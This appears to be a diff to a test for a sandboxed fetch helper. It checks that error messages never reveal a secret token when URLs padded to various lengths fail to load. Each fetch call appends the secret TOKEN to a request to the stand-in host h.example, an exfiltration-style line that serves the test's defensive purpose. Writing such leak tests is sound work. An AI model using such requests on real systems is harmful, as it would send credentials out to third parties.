@@ -2,10 +2,13 @@
 // grants: fetch:strict
 // secret: TOKEN=Hunter2/Sesame+42/Hunter3/Sesame+43
 // expect: never Hunter2
-// The helper shows 120 characters and goes on.
-const address = "https://h.example/?".padEnd(103, "x") + "&key=" + TOKEN + "\n!";
-try {
-  await fetch(address);
-} catch (error) {
-  return error.message;
+// The helper quotes at most 1,000 characters.
+const said = [];
+for (const length of [103, 980, 990]) {
+  try {
+    await fetch("https://h.example/?".padEnd(length, "x") + "&key=" + TOKEN + "\n!");
+  } catch (error) {
+    said.push(error.message);
+  }
 }
+return said;
